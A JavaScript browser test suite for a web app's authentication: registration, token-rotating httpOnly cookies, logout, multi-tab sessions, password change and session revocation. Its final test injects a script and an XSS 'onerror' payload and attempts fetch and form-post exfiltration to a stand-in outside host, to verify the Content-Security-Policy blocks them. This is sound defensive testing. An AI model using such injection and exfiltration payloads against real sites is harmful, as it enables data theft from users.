// A user in front of the page: registers, logs in, comes back, logs out.

import { click, COOKIE, DONE, PASSWORD, press, reload, sessions, settled, Stage, state, submit, wait } from './browser.mjs'
import { count, readWorld, same } from './flow.mjs'

const OTHER_PASSWORD = 'another horse of another colour'
const ALICE = { username: 'alice', email: 'alice@example.org', password: PASSWORD }
const LOGIN = { username: 'alice', password: PASSWORD }

const world = readWorld()
const stage = await Stage.start(world)
try {
  await registers()
  await comesBack()
  await hidesTheTokens()
  await logsOut()
  await staysOnInManyTabs()
  await changesThePassword()
  await endsOtherSessions()
  await keepsOthersScriptsOut()
} finally {
  await stage.end()
}
console.log(`${count()} checks`)

async function loggedIn(password = PASSWORD) {
  const visitor = await stage.visitor()
  const page = await visitor.tab()
  same(await submit(page, 'login', { ...LOGIN, password }), DONE)
  return { visitor, page }
}

async function registers() {
  const visitor = await stage.visitor()
  const page = await visitor.tab()
  same([await state(page), visitor.statuses('/refresh/')], ['signed-out', [401]])
  for (const [fields, reason, field] of [
    [{ password: 'too short' }, 'too_short', 'password'],
    [{ password: 'passwordpassword' }, 'common', 'password'],
    [{ username: 'al ice' }, 'malformed', 'username'],
  ]) {
    same(await submit(page, 'register', { ...ALICE, ...fields }), { state: 'signed-out', reason, field })
  }
  same(await submit(page, 'register', ALICE), DONE)
  same(await stage.isActive(visitor.tokens().at(-1)), true)
  const other = await stage.visitor()
  const elsewhere = await other.tab()
  const taken = { state: 'signed-out', reason: 'taken', field: 'username' }
  same(await submit(elsewhere, 'register', { ...ALICE, email: 'other@example.org' }), taken)
  const wrong = { state: 'signed-out', reason: 'invalid_credentials', field: '' }
  same(await submit(elsewhere, 'login', { ...LOGIN, password: OTHER_PASSWORD }), wrong)
  same(await submit(elsewhere, 'login', { ...LOGIN, username: 'nobody' }), wrong)
  await press(page, '#logout', 'signed-out')
}

async function comesBack() {
  const { visitor, page } = await loggedIn()
  for (let round = 0; round < 3; round += 1) {
    const before = await visitor.cookie()
    same(await reload(page), 'signed-in')
    const after = await visitor.cookie()
    same([before.value === after.value, after.value.length > 20], [false, true])
    same(await stage.isActive(visitor.tokens().at(-1)), true)
  }
  same(new Set(visitor.tokens()).size, 4)
  // Not even with the page closed is anything asked again.
  await page.close()
  same(await state(await visitor.tab()), 'signed-in')
}

async function hidesTheTokens() {
  const { visitor, page } = await loggedIn()
  await reload(page)
  const cookie = await visitor.cookie()
  const { domain, path, secure, httpOnly, sameSite } = cookie
  same({ domain, path, secure, httpOnly, sameSite }, {
    domain: new URL(world.api).host, path: '/', secure: true, httpOnly: true, sameSite: 'Strict',
  })
  const readable = await page.evaluate(async () => ({
    cookie: document.cookie,
    cookieStore: (await cookieStore.getAll()).length,
    localStorage: localStorage.length,
    sessionStorage: sessionStorage.length,
    indexedDB: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
  }))
  same(readable, { cookie: '', cookieStore: 0, localStorage: 0, sessionStorage: 0, indexedDB: 0, caches: 0 })
  const held = await page.evaluate(() => {
    const texts = [document.documentElement.outerHTML, location.href, window.name, JSON.stringify(history.state)]
    for (const name of Object.getOwnPropertyNames(window)) {
      if (typeof window[name] === 'string') texts.push(window[name])
    }
    return texts.join('\n')
  })
  const answered = visitor.answers.map(({ headers, text }) => JSON.stringify(headers) + text).join('\n')
  // What scripts see of an answer does not have its cookies, which the browser's own tools do show.
  const read = visitor.answers.map(({ text }) => text).join('\n')
  same([answered.includes(cookie.value), read.includes(cookie.value), read.includes('refresh_token')], [true, false, false])
  same([held.includes(cookie.value), held.includes(visitor.tokens().at(-1))], [false, false])
}

async function logsOut() {
  const { visitor, page } = await loggedIn()
  await reload(page)
  const tokens = visitor.tokens()
  same(await Promise.all(tokens.map((token) => stage.isActive(token))), [true, true])
  const { value } = await visitor.cookie()
  await press(page, '#logout', 'signed-out')
  same(await Promise.all(tokens.map((token) => stage.isActive(token))), [false, false])
  same(await visitor.cookie(), undefined)
  same(await reload(page), 'signed-out')
  // Nor does it work for somebody who has kept the cookie.
  const { hostname: domain } = new URL(world.api)
  const kept = { name: COOKIE, value, domain, path: '/', secure: true, httpOnly: true, sameSite: 'Strict' }
  await visitor.context.setCookie({ ...kept, url: world.api })
  same((await visitor.cookie()).value, value)
  same([await reload(page), await visitor.cookie()], ['signed-out', undefined])
}

async function staysOnInManyTabs() {
  const { visitor, page } = await loggedIn()
  for (let round = 0; round < 3; round += 1) {
    const before = visitor.statuses('/refresh/').length
    const tabs = await Promise.all([page, visitor.tab(), visitor.tab(), visitor.tab()])
    same(await Promise.all(tabs.map(state)), Array(4).fill('signed-in'))
    await Promise.all(tabs.map(reload))
    same(await Promise.all(tabs.map(state)), Array(4).fill('signed-in'))
    same(visitor.statuses('/refresh/').slice(before), Array(7).fill(200))
    await Promise.all(tabs.slice(1).map((tab) => tab.close()))
  }
  // Who logs out in one tab is logged out in the other.
  const second = await visitor.tab()
  await press(page, '#logout', 'signed-out')
  await wait(second, () => document.body.dataset.state === 'signed-out')
  same(await submit(second, 'login', LOGIN), DONE)
  await wait(page, () => document.body.dataset.state === 'signed-in')
  await press(page, '#logout-everywhere', 'signed-out')
}

async function changesThePassword() {
  const [first, second] = [await loggedIn(), await loggedIn()]
  const before = [first.visitor.tokens().at(-1), second.visitor.tokens().at(-1)]
  await reload(first.page)
  same(await sessions(first.page, 2), 2)
  const change = (fields) => submit(first.page, 'password', { old_password: PASSWORD, new_password: OTHER_PASSWORD, ...fields })
  const refused = (reason, field = '') => ({ state: 'signed-in', reason, field })
  same(await change({ old_password: OTHER_PASSWORD, new_password: `${OTHER_PASSWORD} yet` }), refused('invalid_credentials'))
  same(await change({ new_password: 'short' }), refused('too_short', 'new_password'))
  same(await change({ new_password: PASSWORD }), refused('unchanged', 'new_password'))
  same(await change({}), DONE)
  same(await Promise.all(before.map((token) => stage.isActive(token))), [false, false])
  same(await stage.isActive(first.visitor.tokens().at(-1)), true)
  same([await reload(first.page), await reload(second.page)], ['signed-in', 'signed-out'])
  same(await sessions(first.page, 1), 1)
  same((await submit(second.page, 'login', LOGIN)).reason, 'invalid_credentials')
  same(await submit(second.page, 'login', { ...LOGIN, password: OTHER_PASSWORD }), DONE)
}

async function endsOtherSessions() {
  const [first, second] = [await loggedIn(OTHER_PASSWORD), await loggedIn(OTHER_PASSWORD)]
  await reload(first.page)
  // Two are left of before.
  await sessions(first.page, 4)
  const token = second.visitor.tokens().at(-1)
  await click(first.page, '#sessions li:last-child button')
  same([await sessions(first.page, 3), await stage.isActive(token)], [3, false])
  // Its page notices at the next request, and nothing else happens to it.
  await second.page.evaluate(() => document.querySelector('#retry').click())
  await wait(second.page, () => document.body.dataset.state === 'signed-out')
  same(await reload(second.page), 'signed-out')
  const third = await loggedIn(OTHER_PASSWORD)
  const tokens = [first, third].map(({ visitor }) => visitor.tokens().at(-1))
  await press(first.page, '#logout-everywhere', 'signed-out')
  same(await Promise.all(tokens.map((token) => stage.isActive(token))), [false, false])
  same([await reload(first.page), await settled(third.page), await reload(third.page)], ['signed-out', 'signed-in', 'signed-out'])
}

/** What the page's Content-Security-Policy is for: a script that got in despite all. */
async function keepsOthersScriptsOut() {
  const { visitor, page } = await loggedIn(OTHER_PASSWORD)
  const blocked = await page.evaluate(async (stranger) => {
    const seen = []
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
    const script = document.createElement('script')
    try { script.text = 'window.injected = true' } catch { /* needs a trusted type */ }
    document.body.append(script)
    try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.injected = true">') } catch { /* as above */ }
    const sent = await fetch(`${stranger}/?stolen`, { mode: 'no-cors' }).then(() => true, () => false)
    const form = document.createElement('form')
    Object.assign(form, { method: 'post', action: `${stranger}/?stolen` })
    document.body.append(form)
    form.submit()
    // Each is reported a moment after it was stopped.
    const end = Date.now() + 10_000
    while (new Set(seen).size < 3 && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 10))
    return { injected: window.injected ?? false, sent, seen: [...new Set(seen)].sort() }
  }, world.stranger)
  same(blocked, { injected: false, sent: false, seen: ['connect-src', 'form-action', 'require-trusted-types-for'] })
  same([page.url(), await reload(page)], [`${world.page}/`, 'signed-in'])
  same(await stage.isActive(visitor.tokens().at(-1)), true)
}
